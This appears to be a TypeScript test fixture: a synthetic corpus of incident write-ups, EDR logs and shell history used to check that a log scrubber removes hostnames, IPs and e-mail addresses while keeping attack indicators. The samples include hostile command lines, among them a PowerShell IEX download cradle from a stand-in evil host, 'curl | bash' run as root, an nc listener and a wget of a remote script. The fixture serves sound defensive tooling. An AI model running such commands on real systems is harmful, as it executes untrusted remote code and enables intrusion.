// Synthetic labeled corpus (reliability-perf-anchors.md §2.4): realistic write-ups seeded with identifiers, so the
// labels are exact. `gone` must not survive scrubbing (compared case-insensitively); `stays` must survive verbatim.
// Add every production miss here as a new case.
import type { ScrubOptions } from "./types";

export interface CorpusCase {
  name: string;
  text: string;
  options?: ScrubOptions;
  gone: string[];
  stays: string[];
}

export const CORPUS: CorpusCase[] = [
  {
    name: "PowerShell download cradle",
    text: [
      "Observed on ws-fin-0231.corp.acme-bank.local (10.20.30.41) at 09:14 UTC:",
      `powershell.exe -nop -w hidden -c "IEX (New-Object System.Net.WebClient).DownloadString('http://cdn-update.evil-domain.net/a.ps1')"`,
      "a.ps1 then ran rundll32.exe C:\\ProgramData\\payload.dll,Start (T1218.011) and set WScript.Shell persistence.",
      "$file.Name was written to \\\\fileserver.internal\\drop$\\stage2.zip before exfil to 198.51.100.23:443.",
    ].join("\n"),
    gone: [
      "ws-fin-0231.corp.acme-bank.local",
      "10.20.30.41",
      "cdn-update.evil-domain.net",
      "fileserver.internal",
      "198.51.100.23",
    ],
    stays: [
      "powershell.exe",
      "System.Net.WebClient",
      "http://",
      "/a.ps1",
      "a.ps1 then ran rundll32.exe",
      "payload.dll,Start",
      "T1218.011",
      "WScript.Shell",
      "$file.Name",
      "\\drop$\\stage2.zip",
      ":443",
    ],
  },
  {
    name: "EDR JSON excerpt",
    text:
      `{"ts":"2024-03-05T10:22:31Z","device":"FS01.ACME.INTERNAL","user":"ACME\\\\svc_backup","src_ip":"192.168.010.055",` +
      `"dst_ip":"203.0.113.77","cmdline":"cmd.exe /c net use \\\\\\\\fileserver.internal\\\\c$ /user:svc_backup@acme-bank.com",` +
      `"parent":"C:\\\\Windows\\\\System32\\\\services.exe","technique":"T1021.002","tactic":"TA0008"}`,
    options: { redact: ["acme"] },
    gone: [
      "FS01.ACME.INTERNAL",
      "ACME",
      "192.168.010.055",
      "203.0.113.77",
      "fileserver.internal",
      "svc_backup@acme-bank.com",
    ],
    stays: ["cmd.exe /c net use", "services.exe", "T1021.002", "TA0008", "2024-03-05T10:22:31Z", "svc_backup"],
  },
  {
    name: "phishing narrative with defanged IOCs",
    text: [
      "The actor (G0016, using S0154) sent a lure from billing@evil-invoices[.]com to j.smith@acme-bank.com and",
      "Jane.Doe@Acme-Bank.com. invoice.pdf dropped setup.py and run.sh; the loader beaconed to",
      "hxxps://update-check.evil[.]net/api and 45.77.12[.]9, then to hxxp://185.220.101.4/gate.php.",
      "Mimikatz (mimikatz.exe) dumped LSASS on dc01.corp.local (T1003.001, TA0006, campaign C0022).",
      "J.SMITH@ACME-BANK.COM replied to the lure twice.",
    ].join("\n"),
    gone: ["j.smith@acme-bank.com", "Jane.Doe@Acme-Bank.com", "dc01.corp.local"],
    stays: [
      "G0016",
      "S0154",
      "billing@evil-invoices[.]com",
      "invoice.pdf",
      "setup.py",
      "run.sh",
      "hxxps://update-check.evil[.]net/api",
      "45.77.12[.]9",
      "hxxp://185.220.101.4/gate.php",
      "mimikatz.exe",
      "T1003.001",
      "TA0006",
      "C0022",
    ],
  },
  {
    name: "Linux shell history",
    text: [
      "ssh root@10.0.5.12 'curl -s https://intranet.corp.local:8443/x?y=1 | bash'",
      "scp docs.zip report.docx backup@files.acme.lan:/srv/",
      "echo '10.0.5.13 db01.prod.acme.lan' >> /etc/hosts; nc -lvp 4444 -s 0.0.0.0",
      "curl http://127.0.0.1:8080/ && ping -c1 localhost && wget https://cdn.evil.zip/x.sh",
    ].join("\n"),
    // scp's user@host reads as an e-mail address: replaced whole, which is the safe side.
    gone: [
      "10.0.5.12",
      "intranet.corp.local",
      "backup@files.acme.lan",
      "10.0.5.13",
      "db01.prod.acme.lan",
      "cdn.evil.zip",
    ],
    stays: [
      "ssh root@",
      "https://",
      ":8443/x?y=1",
      "docs.zip",
      "report.docx",
      ":/srv/",
      "0.0.0.0",
      "127.0.0.1",
      "localhost",
      "/x.sh",
    ],
  },
  {
    name: "versions, invalid addresses and lookalikes",
    text: [
      "Windows version 10.0.19041.1, agent v1.2.3.4, Build: 6.1.7601.2, FileVersion 2.0.0.1.",
      "Not addresses: 999.1.1.1, 256.300.1.1, 1.2.3.4.5, T1059.001. Netmask 255.255.255.0.",
      "Real: 172.16.4.20 and 8.8.8.8.",
    ].join("\n"),
    gone: ["172.16.4.20", "8.8.8.8"],
    stays: [
      "10.0.19041.1",
      "v1.2.3.4",
      "6.1.7601.2",
      "2.0.0.1",
      "999.1.1.1",
      "256.300.1.1",
      "1.2.3.4.5",
      "T1059.001",
      "255.255.255.0",
    ],
  },
  {
    name: "WebDAV UNC and user@host forms",
    text: "net use \\\\evil-share.com@SSL\\DavWWWRoot\\x.dll and \\\\user@host\\share and \\\\backup01.corp\\logs\\dc01.corp.local.log",
    gone: ["evil-share.com", "backup01.corp", "dc01.corp.local"],
    stays: ["@SSL\\DavWWWRoot\\x.dll", "\\\\user@host\\share", "\\logs\\", ".log"],
  },
  {
    name: "contributor keep and redact lists",
    text: [
      "Acme Bank's SOC (lead: John Smith) saw beacons to c2.evil-domain.net and 45.77.12.9 from",
      "jump01.acmebank.internal; john smith escalated. Phish came from billing@evil-invoices.com.",
      "John",
      "Smith later confirmed. ACMEBANK staff were not involved.",
    ].join("\n"),
    options: {
      keep: ["C2.Evil-Domain.net", "45.77.12[.]9", "billing@evil-invoices.com"],
      redact: ["Acme Bank", "John Smith"],
    },
    gone: ["Acme Bank", "John Smith", "jump01.acmebank.internal", "John\nSmith"],
    stays: ["c2.evil-domain.net", "45.77.12.9", "billing@evil-invoices.com", "ACMEBANK staff"],
  },
];

const REALISTIC = CORPUS.map((c) => c.text).join("\n");

/** 200 KB inputs that would expose catastrophic backtracking (tests) and measure speed (`npm run bench`). */
export const STRESS_INPUTS: Record<string, string> = {
  "realistic 200 KB": REALISTIC.repeat(Math.ceil(200_000 / REALISTIC.length)),
  "one 200 KB word": "a".repeat(200_000),
  "dotted run": "a.".repeat(100_000),
  "hyphen run": "a-".repeat(100_000),
  "digit dots": "1.".repeat(100_000),
  "at signs": "a@".repeat(100_000),
  "local part without domain": "a".repeat(199_999) + "@",
  "defang markers": "a[.]".repeat(50_000),
};
